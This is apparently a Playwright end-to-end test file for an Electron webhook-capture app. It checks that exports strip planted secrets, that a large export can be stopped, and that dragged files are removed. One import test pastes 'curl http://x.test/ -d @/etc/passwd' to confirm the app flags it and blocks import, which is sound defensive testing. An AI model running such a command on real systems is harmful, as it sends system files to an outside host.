import { existsSync, mkdirSync, readdirSync, readFileSync } from 'node:fs'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import AxeBuilder from '@axe-core/playwright'
import { expect, type Page } from '@playwright/test'
import { openCaptureStore } from '../../electron/storage/capture-store'
import { prepareDataFolder } from '../../electron/storage/data-folder-access'
import { realDisk } from '../../electron/storage/disk'
import { anArrival } from '../support/an-arrival'
import type { RunningApp } from '../support/electron-host'
import { showTheme } from '../support/show-theme'
import { type WindowPage, windowPage } from '../support/window-page'
import { test as base } from './fixtures'

const test = base.extend<{ readonly target: string }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names from the pattern
  target: async ({}, use) => {
    const folder = await mkdtemp(join(tmpdir(), 'hookwright-target-'))
    await use(folder)
    await rm(folder, { recursive: true, force: true })
  },
})

async function inBothThemes(app: RunningApp, check: (theme: string) => Promise<void>) {
  for (const theme of ['dark', 'light'] as const) {
    await showTheme(app, theme)
    await check(theme)
  }
}

async function violations(page: Page): Promise<readonly string[]> {
  const { violations: found } = await new AxeBuilder({ page }).setLegacyMode(true).analyze()
  return found.map(
    ({ id, nodes }) => `${id}: ${nodes.map((node) => node.target.join(' ')).join(', ')}`,
  )
}

/** The system's own dialog is the one thing no test can answer. */
const choosing = (app: RunningApp, folder: string): Promise<void> =>
  app.electron.evaluate(({ dialog }, path) => {
    dialog.showOpenDialog = (async () => ({ canceled: false, filePaths: [path] })) as never
  }, folder)

/** Drops what lies at these paths, as the desktop does. */
async function drop(page: Page, files: readonly string[]): Promise<void> {
  const session = await page.context().newCDPSession(page)
  const data = { items: [], files: [...files], dragOperationsMask: 1 }
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
    await session.send('Input.dispatchDragEvent', { type, x: 200, y: 300, data })
  }
  await session.detach()
}

const planted = 'PLANTED1234567890'

async function sendSecrets(window: WindowPage, count = 1): Promise<void> {
  const address = await window.address()
  for (let number = 1; number <= count; number++) {
    await fetch(`${address}/github/${number}?token=${planted}`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${planted}`,
        'content-type': 'application/json',
        'x-github-event': 'push',
      },
      body: JSON.stringify({ number, password: planted }),
    })
  }
  await expect(window.rows).toHaveCount(count)
}

async function aFilledFolder(dataFolder: string, count: number): Promise<void> {
  const prepared = await prepareDataFolder(dataFolder, realDisk)
  const store = prepared.ok ? await openCaptureStore({ folder: dataFolder }) : prepared
  if (!store.ok) throw new Error(JSON.stringify(store.error))
  await Promise.all(
    Array.from({ length: count }, (_, at) =>
      store.value.append(anArrival({ target: `/many/${at}`, receivedAt: Date.now() })),
    ),
  )
  await store.value.close()
}

test('captures go out without their secrets, and come back by a drop', async ({
  app,
  window,
  target,
}) => {
  const { page } = window
  await sendSecrets(window, 2)
  await window.press('Control+e')
  const dialog = page.getByRole('dialog', { name: 'Export' })
  const preview = dialog.getByRole('region', { name: 'Preview of the first capture' })
  await expect(dialog).toContainText('All 2 captures.')
  await expect(preview).toContainText('body /password (secret field)')
  const changes = preview.getByRole('list', { name: 'What changes' })
  await expect(changes.getByRole('listitem').filter({ hasText: 'before: ' })).toHaveCount(3)
  await expect(changes.getByRole('listitem').filter({ hasText: 'after: ' }).first()).not.toHaveText(
    planted,
  )
  await inBothThemes(app, async (theme) => expect(await violations(page), theme).toEqual([]))

  await preview.getByRole('radio', { name: 'Files' }).click()
  await expect(preview.getByRole('article')).toHaveCount(4)
  await dialog.getByLabel('Format').selectOption('curl')
  await expect(preview.getByRole('article')).toContainText('curl --globoff')
  await expect(preview).not.toContainText(planted)

  await dialog.getByRole('radio', { name: 'As received' }).click()
  await expect(dialog.getByRole('alert')).toContainText('Whoever gets these files can use them.')
  await expect(preview).toContainText(planted)
  await inBothThemes(app, async (theme) => expect(await violations(page), theme).toEqual([]))
  await dialog.getByRole('radio', { name: 'Replaced and signed anew' }).click()
  await dialog.getByLabel('Format').selectOption('fixture')

  await choosing(app, target)
  await dialog.getByRole('button', { name: 'Choose folder…' }).click()
  await expect(dialog.getByRole('status')).toContainText(`2 captures, 6 files in ${target}`)
  for (const name of readdirSync(target)) {
    expect(readFileSync(join(target, name)).includes(planted), name).toBe(false)
  }
  // Nothing there is overwritten.
  await dialog.getByRole('button', { name: 'Choose folder…' }).click()
  await expect(dialog.getByRole('alert')).toContainText('exists already')
  await window.press('Escape')
  await expect(dialog).toBeHidden()

  await drop(page, [target])
  const importing = page.getByRole('dialog', { name: 'Import' })
  await expect(importing).toContainText('Fixture, 2')
  await expect(importing).toContainText('/github/1?token=')
  await inBothThemes(app, async (theme) => expect(await violations(page), theme).toEqual([]))
  await importing.getByRole('button', { name: 'Import 2 captures' }).click()
  await expect(importing).toBeHidden()
  await expect(window.row(/imported/i)).toHaveCount(2)
})

test('an export of a thousand is stopped, and leaves nothing', async ({
  dataFolder,
  launch,
  target,
}) => {
  mkdirSync(dataFolder, { recursive: true })
  await aFilledFolder(dataFolder, 1000)
  const app = await launch()
  const window = windowPage(app.page)
  await expect(window.row(/many/).first()).toBeVisible()
  await window.press('Control+e')
  const dialog = app.page.getByRole('dialog', { name: 'Export' })
  await expect(dialog).toContainText('All 1,000 captures.')
  await choosing(app, target)
  const choose = dialog.getByRole('button', { name: 'Choose folder…' })
  await choose.click()
  await expect(dialog.getByRole('progressbar', { name: 'Export' })).toBeVisible()
  await dialog.getByRole('button', { name: 'Stop' }).click()
  await expect(dialog.getByRole('status')).toHaveText('Stopped; nothing was written.')
  expect(readdirSync(target)).toEqual([])

  await choose.click()
  await expect(dialog.getByRole('status')).toContainText('1,000 captures, 2,002 files', {
    timeout: 30_000,
  })
  expect(readdirSync(target)).toHaveLength(2002)
})

test('what cannot come in is said before anything is kept', async ({ window, target }) => {
  const { page } = window
  await window.address()
  await window.press('Control+i')
  const dialog = page.getByRole('dialog', { name: 'Import' })
  const pasted = dialog.getByRole('textbox')
  await pasted.fill('curl http://x.test/ -d @/etc/passwd')
  await expect(dialog).toContainText('/etc/passwd')
  await expect(dialog.getByRole('button', { name: 'Import', exact: true })).toBeDisabled()
  await pasted.fill(`curl http://x.test/made -d '{"a":1}'`)
  await expect(dialog).toContainText('/made')

  const har = { log: { entries: [{}, { request: { method: 'GET', url: '/har', headers: [] } }] } }
  const file = join(target, 'recording.har')
  await writeFile(file, JSON.stringify(har))
  await dialog.locator('input[type=file]').setInputFiles(file)
  await expect(dialog).toContainText('entry 1: it has no request')
  await window.press('Escape')
  await expect(window.rows).toHaveCount(0)
})

test('selected rows are dragged out as files that only this user can read', async ({
  app,
  window,
}) => {
  const { page } = window
  await sendSecrets(window, 3)
  // The desktop takes the pointer here; what it is handed is all that can be seen.
  await app.electron.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents
    if (contents) {
      contents.startDrag = (item) => {
        Reflect.set(globalThis, 'dragged', item)
      }
    }
  })
  const dragged = (): Promise<readonly string[]> =>
    app.electron.evaluate(() => {
      const item = Reflect.get(globalThis, 'dragged') as { files?: string[] } | undefined
      return item?.files ?? []
    })
  const row = (path: string) => window.row(new RegExp(`POST /github/${path}`))
  await row('1').click()
  await row('2').click({ modifiers: ['Control'] })
  await row('2').hover()
  await page.mouse.down()
  await page.mouse.move(500, 400, { steps: 5 })
  await expect.poll(dragged).toHaveLength(4)
  await page.mouse.up()
  const files = await dragged()
  expect(files.every((path) => existsSync(path))).toBe(true)
  expect(files.some((path) => readFileSync(path).includes(planted))).toBe(false)
  // Pressing on one of several did not unmark the others.
  await expect(window.row(/github/).and(page.locator('[aria-selected=true]'))).toHaveCount(2)
  await row('2').click()
  await expect(window.row(/github/).and(page.locator('[aria-selected=true]'))).toHaveCount(1)

  await app.quit()
  expect(files.filter((path) => existsSync(path))).toEqual([])
})
